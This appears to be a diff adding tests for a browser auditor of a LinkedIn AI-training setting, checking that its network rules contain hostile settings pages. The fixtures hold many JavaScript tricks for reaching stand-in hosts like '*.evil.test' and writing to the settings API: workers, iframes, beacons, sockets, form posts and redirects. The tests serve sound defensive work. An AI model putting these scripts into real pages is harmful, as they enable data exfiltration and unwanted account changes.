@@ -1,0 +1,219 @@
+"""The network rules in a real browser, against pages that try every way out."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+from traces import left_in, own_folder, program_in
+
+from auditor.demo import Answer, Scene
+from auditor.settings import ORIGIN, catalog
+
+SETTING = catalog().settings["ai-training"]
+API = f"{ORIGIN}/mysettings-api/settingsApiSettings/{SETTING.key}"
+SWITCH = (
+    "<main><h1>AI</h1><span>Use my data for training content creation AI models</span>"
+    f"<input type=checkbox role=switch aria-labelledby={SETTING.key} checked></main>"
+)
+
+
+def page(script="", more=""):
+    """A settings page that runs `script`, and keeps asking LinkedIn for data for two seconds."""
+    return (
+        "<!doctype html><html lang=en><meta charset=utf-8><link rel=icon href=data:,>"
+        f"{SWITCH}{more}<script>{script}</script>"
+        "<script>fetch('/data?late').catch(() => 0)</script>"
+    )
+
+
+def tries(tag):
+    """A script that says where it ran, then asks another host and writes to the settings."""
+    return (
+        f"fetch('{ORIGIN}/ran?{tag}', {{mode: 'no-cors'}}).catch(() => 0);"
+        f"fetch('https://{tag}.evil.test/', {{mode: 'no-cors'}}).catch(() => 0);"
+        f"fetch('{API}', {{method: 'PUT', body: '{tag}'}}).catch(() => 0);"
+        f"fetch('{API}', {{method: 'POST', mode: 'no-cors', body: '{tag}'}}).catch(() => 0);"
+    )
+
+
+def blob(script):
+    """The address of `script`, as an expression of JavaScript."""
+    return f"URL.createObjectURL(new Blob([{json.dumps(script)}], {{type: 'text/javascript'}}))"
+
+
+def framed(script):
+    """A document with `script`, quoted for an attribute."""
+    return f"<script>{script}</script>".replace("&", "&amp;").replace('"', "&quot;")
+
+
+NESTED = f"new Worker({blob(tries('nested'))});"
+# Ways that run a script of their own, by the tag that it sends.
+RUN = {
+    "page": tries("page"),
+    "late": f"setTimeout(() => {{ {tries('late')} }}, 900);",
+    "worker": f"new Worker({blob(tries('worker'))});",
+    "module": f"new Worker({blob(tries('module'))}, {{type: 'module'}});",
+    "nested": f"new Worker({blob(NESTED)});",
+    "fromfile": "new Worker('/worker.js');",
+}
+SOON = f"setTimeout(() => {{ {tries('sandboxed')} }}, 500)"  # known gap: its first moments
+FRAMES = {
+    "srcdoc": f'<iframe srcdoc="{framed(tries("srcdoc"))}"></iframe>',
+    "sandboxed": f'<iframe sandbox="allow-scripts" srcdoc="{framed(SOON)}"></iframe>',
+    "data": f'<iframe src="data:text/html,{framed(tries("data"))}"></iframe>',
+    "sub": '<iframe src="https://sub.linkedin.com/frame"></iframe>',
+}
+# Ways that only ask.
+ASK = f"""
+new EventSource('https://stream.evil.test/');
+new WebSocket('wss://socket.evil.test/');
+new Image().src = 'https://image.evil.test/';
+navigator.sendBeacon('https://beacon.evil.test/', 'x');
+navigator.sendBeacon('{API}', 'beacon');
+fetch('/leads-away', {{mode: 'no-cors'}}).catch(() => 0);
+fetch('/leads-away-307', {{method: 'POST', body: 'x', mode: 'no-cors'}}).catch(() => 0);
+fetch('/leads-to-a-write', {{method: 'POST', body: 'x'}}).catch(() => 0);
+new Image().src = '/leads-away';
+for (const at of ['https://window.evil.test/', '/leads-away', '/opened']) window.open(at);
+for (const at of ['https://form.evil.test/', '{API}']) {{
+  const form = Object.assign(document.createElement('form'), {{method: 'post', action: at}});
+  document.body.append(Object.assign(form, {{target: '_blank'}}));
+  form.submit();
+}}
+const link = Object.assign(document.createElement('a'), {{href: 'https://link.evil.test/'}});
+document.body.append(Object.assign(link, {{target: '_blank', rel: 'noopener'}}));
+link.click();
+"""
+STYLED = (
+    "<iframe src='https://frame.evil.test/'></iframe><iframe src='/leads-away'></iframe>"
+    "<link rel=stylesheet href='https://style.evil.test/'>"
+    "<link rel=prefetch href='https://prefetch.evil.test/'>"
+    "<object data='https://object.evil.test/'></object><script src='//script.evil.test/'></script>"
+)
+SHARED = f"""
+fetch('/ran?' + typeof SharedWorker + typeof RTCPeerConnection + typeof WebTransport);
+try {{ new SharedWorker({blob(tries("shared"))}); }} catch {{ }}
+navigator.serviceWorker?.register('/worker.js').catch(() => 0);
+"""
+
+
+def elsewhere(asked):
+    """What the hostile page finds at LinkedIn."""
+    if asked.host == "sub.linkedin.com":
+        return Answer(f"<script>{tries('sub')}</script>")
+    if asked.path in ("/leads-away", "/leads-away-307"):
+        status = 307 if asked.path.endswith("307") else 302
+        return Answer(status=status, location=f"https://redirect{status}.evil.test/")
+    found = {
+        "/leads-to-a-write": Answer(status=307, location=API),
+        "/worker.js": Answer(tries("fromfile"), content_type="text/javascript"),
+        "/opened": Answer(f"<script>{tries('opened')}</script>"),
+        "/data?late": Answer("{}", delay=2),
+        "/download": Answer("x", headers=(("content-disposition", "attachment"),)),
+    }
+    return found.get(asked.path) or (Answer("") if asked.path.startswith("/ran?") else None)
+
+
+def audited(serve, html, *more):
+    """An audit of a page, of who is signed in already: the server, the run, what it left."""
+    server = serve(
+        Scene("x", signed_in=True),
+        lambda asked: Answer(html) if asked.path == SETTING.path else elsewhere(asked),
+    )
+    with own_folder() as folder:
+        done = program_in(
+            folder, *("audit", "--headless", "--browser", server.browser, "--json", "-"), *more
+        )
+        return server, done, left_in(folder, server.port)
+
+
+def reports(server):
+    """What the pages said that they could do."""
+    return {one.path.removeprefix("/ran?") for one in server.seen if "/ran?" in one.path}
+
+
+def test_no_way_out_of_the_settings_page(serve):
+    """From frames, workers, windows, sockets, redirects no other host is asked, nothing written."""
+    html = page("".join(RUN.values()) + ASK, "".join(FRAMES.values()) + STYLED)
+    server, done, left = audited(serve, html)
+    assert {*RUN, *FRAMES} == reports(server)
+    assert {"www.linkedin.com", "sub.linkedin.com"} == {asked.host for asked in server.seen}
+    assert {"GET"} == {asked.method for asked in server.seen if "leads" not in asked.path}
+    assert {SETTING.key: True} == {SETTING.key: server.imitation.values[SETTING.key]}
+    assert done.report["activity"]["requests_refused"] >= 3 * len(reports(server))
+    assert [] == left
+
+
+def test_what_no_rule_sees_is_taken_away(serve):
+    """A settings page has no shared worker, no service worker, no calls past the network rules."""
+    server, _, _ = audited(serve, page(SHARED))
+    assert {"undefinedundefinedundefined"} == reports(server)
+    assert {"www.linkedin.com"} == {asked.host for asked in server.seen} == server.greeted
+    assert not [asked for asked in server.seen if asked.path == "/worker.js"]
+
+
+PERMISSIONS = """
+for (const name of ["geolocation", "notifications", "camera", "microphone", "clipboard-read"]) {
+  navigator.permissions.query({name}).then((one) => fetch(`/ran?${name} ${one.state}`));
+}
+navigator.geolocation.getCurrentPosition(() => fetch("/ran?found"), () => fetch("/ran?not-found"));
+"""
+
+
+def test_permissions_are_refused(serve):
+    """What a page asks leave for is denied, and nobody is asked."""
+    server, _, _ = audited(serve, page(PERMISSIONS))
+    assert reports(server) >= {"not-found"}
+    assert {"denied"} == {one.split("%20")[1] for one in reports(server) if "%20" in one}
+
+
+BOXES = """
+const says = [alert("a"), confirm("b"), prompt("c"), print()];
+fetch("/ran?" + says.slice(1, 3).join());
+onbeforeunload = () => "stay";
+"""
+WINDOWS = """
+const opened = [window.open("/opened"), window.open("about:blank")];
+location.hash = "x";
+"""
+DOWNLOAD = """
+const link = Object.assign(document.createElement("a"), {href: "/download", download: "planted"});
+document.body.append(link);
+link.click();
+"""
+
+
+@pytest.mark.parametrize("script", [BOXES, WINDOWS, DOWNLOAD], ids=["boxes", "windows", "download"])
+def test_what_a_page_opens_is_refused(serve, script):
+    """Boxes, windows and downloads do not hold up the reading, and leave nothing behind."""
+    server, done, left = audited(serve, page(script))
+    assert ("on", 1, []) == (done.result["state"], done.code, left)
+    assert set() == reports(server) - {"false,", "false,null"}
+    assert {"www.linkedin.com"} == {asked.host for asked in server.seen}
+
+
+def test_the_pages_of_signing_in_may_ask_other_hosts(serve):
+    """Until the person is signed in other hosts are asked, and no write to the settings is sent."""
+    helped = (
+        "<script src='https://captcha.example/x.js'></script>"
+        f"<script>fetch('{API}', {{method: 'PUT', body: 'x'}}).catch(() => 0);"
+        "const go = () => { location.href = '/checkpoint/lg/login-submit' };"
+        "fetch('https://accounts.example/', {mode: 'no-cors'}).finally(() => setTimeout(go, 300))"
+        "</script>"
+    )
+
+    def override(asked):
+        if asked.path.startswith("/uas/login"):
+            return Answer(f"<!doctype html><html lang=en><main>Sign in</main>{helped}")
+        return None if asked.host == "www.linkedin.com" else Answer("", content_type="text/css")
+
+    server = serve(Scene("x", value="off"), override)
+    with own_folder() as folder:
+        done = program_in(folder, "audit", "--headless", "--browser", server.browser, "--json", "-")
+    hosts = {"www.linkedin.com", "captcha.example", "accounts.example"}
+    assert ("off", hosts, []) == (
+        done.result["state"],
+        {asked.host for asked in server.seen},
+        server.writes,
+    )
